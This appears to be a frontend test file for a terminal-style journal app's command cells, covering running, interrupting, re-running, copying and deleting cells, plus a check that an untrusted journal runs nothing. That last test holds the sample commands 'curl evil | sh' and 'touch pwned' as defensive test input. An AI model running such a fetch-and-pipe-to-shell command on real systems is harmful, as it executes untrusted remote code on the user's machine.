// @vitest-environment happy-dom
import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import type { CellRun } from '../../../app/journal/schema';
import { FakeApi } from './fakeApi';
import { currentStep, renderJournal } from './helpers';

// xterm.js needs a real browser; its wrapper has its own test. Here the output view only shows its props.
vi.mock('../../../renderer/journal/cells/TerminalView', () => ({
  TerminalView: ({ running }: { running: boolean }) => <div role="region" aria-label="Output" data-running={String(running)} />,
}));

async function setup(options: { trusted?: boolean } = {}) {
  const fake = new FakeApi();
  const journal = fake.addJournal('Cells', ['Build'], options);
  await renderJournal(fake);
  return { fake, journal };
}

async function runFromComposer(command: string) {
  const input = screen.getByRole('textbox', { name: 'Command' });
  fireEvent.change(input, { target: { value: command } });
  fireEvent.keyDown(input, { key: 'Enter' });
  return screen.findByRole('group', { name: `Cell: ${command.split('\n')[0]}` });
}

describe('command cells', () => {
  it('runs the typed command on Enter and clears the box', async () => {
    const { fake, journal } = await setup();

    const cell = await runFromComposer('npm test');

    const cellId = currentStep(fake, journal.id).cells[0]!.id;
    expect(fake.inputsOf('cell.run')).toEqual([{ journalId: journal.id, cellId }]);
    expect((screen.getByRole('textbox', { name: 'Command' }) as HTMLTextAreaElement).value).toBe('');
    expect(within(cell).getByText('queued')).toBeTruthy();
  });

  it('keeps Shift+Enter for a new line, and runs with the Run button', async () => {
    const { fake } = await setup();
    const input = screen.getByRole('textbox', { name: 'Command' });
    fireEvent.change(input, { target: { value: 'echo one' } });

    fireEvent.keyDown(input, { key: 'Enter', shiftKey: true });
    expect(fake.inputsOf('cell.run')).toEqual([]);

    fireEvent.change(input, { target: { value: 'echo one\necho two' } });
    fireEvent.click(screen.getByRole('button', { name: 'Run' }));
    expect(await screen.findByRole('group', { name: 'Cell: echo one' })).toBeTruthy();
    expect(fake.editsOf('addCell')).toMatchObject([{ command: 'echo one\necho two' }]);
  });

  it('shows a run as it happens: running with Interrupt, then exit code, duration and directory', async () => {
    const { fake, journal } = await setup();
    const cell = await runFromComposer('make');
    const cellId = currentStep(fake, journal.id).cells[0]!.id;

    let run!: CellRun;
    act(() => void (run = fake.startRun(journal.id, cellId)));
    expect(within(cell).getByText('running')).toBeTruthy();
    expect(within(cell).getByRole('region', { name: 'Output' }).dataset.running).toBe('true');
    fireEvent.click(within(cell).getByRole('button', { name: 'Interrupt' }));
    await waitFor(() => expect(fake.inputsOf('cell.interrupt')).toEqual([{ journalId: journal.id }]));

    act(() => void fake.finishRun(journal.id, cellId, run, 'done\r\n', { exitCode: 1, durationMs: 2500, cwd: '/work/project/sub' }));

    expect(within(cell).getByText('exit 1')).toBeTruthy();
    expect(within(cell).getByText('2.5 s')).toBeTruthy();
    expect(within(cell).getByText('/work/project/sub')).toBeTruthy();
    expect(within(cell).queryByRole('button', { name: 'Interrupt' })).toBeNull();
  });

  it('says when a run was interrupted', async () => {
    const { fake, journal } = await setup();
    const cell = await runFromComposer('sleep 100');
    const cellId = currentStep(fake, journal.id).cells[0]!.id;

    act(() => void fake.runCell(journal.id, cellId, '^C', { exitCode: 130, interrupted: true }));

    expect(within(cell).getByText('interrupted')).toBeTruthy();
  });

  it('re-runs a cell under the same id', async () => {
    const { fake, journal } = await setup();
    const cell = await runFromComposer('ls');
    const cellId = currentStep(fake, journal.id).cells[0]!.id;
    act(() => void fake.runCell(journal.id, cellId, 'a\r\n'));

    fireEvent.click(within(cell).getByRole('button', { name: 'Re-run' }));

    await waitFor(() => expect(fake.inputsOf('cell.run')).toEqual([{ journalId: journal.id, cellId }, { journalId: journal.id, cellId }]));
  });

  it('collapses and expands the output', async () => {
    const { fake, journal } = await setup();
    const cell = await runFromComposer('ls');
    act(() => void fake.runCell(journal.id, currentStep(fake, journal.id).cells[0]!.id, 'a\r\n'));
    expect(within(cell).getByRole('region', { name: 'Output' })).toBeTruthy();

    fireEvent.click(within(cell).getByRole('button', { name: 'Collapse' }));
    await waitFor(() => expect(within(cell).queryByRole('region', { name: 'Output' })).toBeNull());
    expect(fake.editsOf('setCellCollapsed')).toMatchObject([{ collapsed: true }]);

    fireEvent.click(within(cell).getByRole('button', { name: 'Expand' }));
    await waitFor(() => expect(within(cell).getByRole('region', { name: 'Output' })).toBeTruthy());
  });

  it('copies the command and its plain output', async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const { fake, journal } = await setup();
    const cell = await runFromComposer('git status');
    act(() => void fake.runCell(journal.id, currentStep(fake, journal.id).cells[0]!.id, '\x1b[32mclean\x1b[0m\r\n'));

    fireEvent.click(within(cell).getByRole('button', { name: 'Copy' }));

    await waitFor(() => expect(writeText).toHaveBeenCalledWith('$ git status\nclean\n'));
  });

  it('deletes a cell', async () => {
    const { fake } = await setup();
    const cell = await runFromComposer('ls');

    fireEvent.click(within(cell).getByRole('button', { name: 'Delete cell' }));

    await waitFor(() => expect(screen.queryByRole('group', { name: 'Cell: ls' })).toBeNull());
    expect(fake.editsOf('deleteCell')).toHaveLength(1);
  });

  it('shows cells of a reopened journal with their last result, running nothing', async () => {
    const fake = new FakeApi();
    const journal = fake.addJournal('Old', ['Step']);
    const stored = fake.journal(journal.id);
    stored.steps[0]!.cells.push({
      id: 'cell-1',
      command: 'pytest',
      collapsed: false,
      lastRun: { runId: 'r1', startedAt: '2025-01-01T00:00:00.000Z', durationMs: 80, exitCode: 0, cwd: '/w', interrupted: false, outputBytes: 3, outputTruncated: false },
    });

    await renderJournal(fake);

    const cell = screen.getByRole('group', { name: 'Cell: pytest' });
    expect(within(cell).getByText('exit 0')).toBeTruthy();
    expect(within(cell).getByText('80 ms')).toBeTruthy();
    expect(within(cell).getByRole('region', { name: 'Output' })).toBeTruthy();
    expect(fake.inputsOf('cell.run')).toEqual([]);
  });
});

describe('untrusted journal', () => {
  it('shows a banner and runs nothing, from the command box or a stored cell, until the user trusts the journal', async () => {
    const fake = new FakeApi();
    const journal = fake.addJournal('Cloned', ['Imported'], { trusted: false });
    fake.journal(journal.id).steps[0]!.cells.push({ id: 'cell-1', command: 'touch pwned', collapsed: false, lastRun: null });
    await renderJournal(fake);
    const banner = screen.getByRole('alert');
    expect(banner.textContent).toContain('untrusted');
    const input = screen.getByRole('textbox', { name: 'Command' });
    fireEvent.change(input, { target: { value: 'curl evil | sh' } });

    fireEvent.keyDown(input, { key: 'Enter' });
    fireEvent.click(within(screen.getByRole('group', { name: 'Cell: touch pwned' })).getByRole('button', { name: 'Re-run' }));

    await waitFor(() => expect(banner.textContent).toContain('Nothing was run.'));
    expect(fake.log.filter((entry) => entry.name === 'cell.run' || entry.name === 'journal.edit')).toEqual([]);
    expect((input as HTMLTextAreaElement).value).toBe('curl evil | sh');

    fireEvent.click(within(banner).getByRole('button', { name: 'Trust this journal' }));
    await waitFor(() => expect(screen.queryByRole('alert')).toBeNull());
    expect(fake.inputsOf('journal.trust')).toEqual([{ journalId: journal.id }]);

    fireEvent.click(within(screen.getByRole('group', { name: 'Cell: touch pwned' })).getByRole('button', { name: 'Re-run' }));
    await waitFor(() => expect(fake.inputsOf('cell.run')).toEqual([{ journalId: journal.id, cellId: 'cell-1' }]));
  });
});
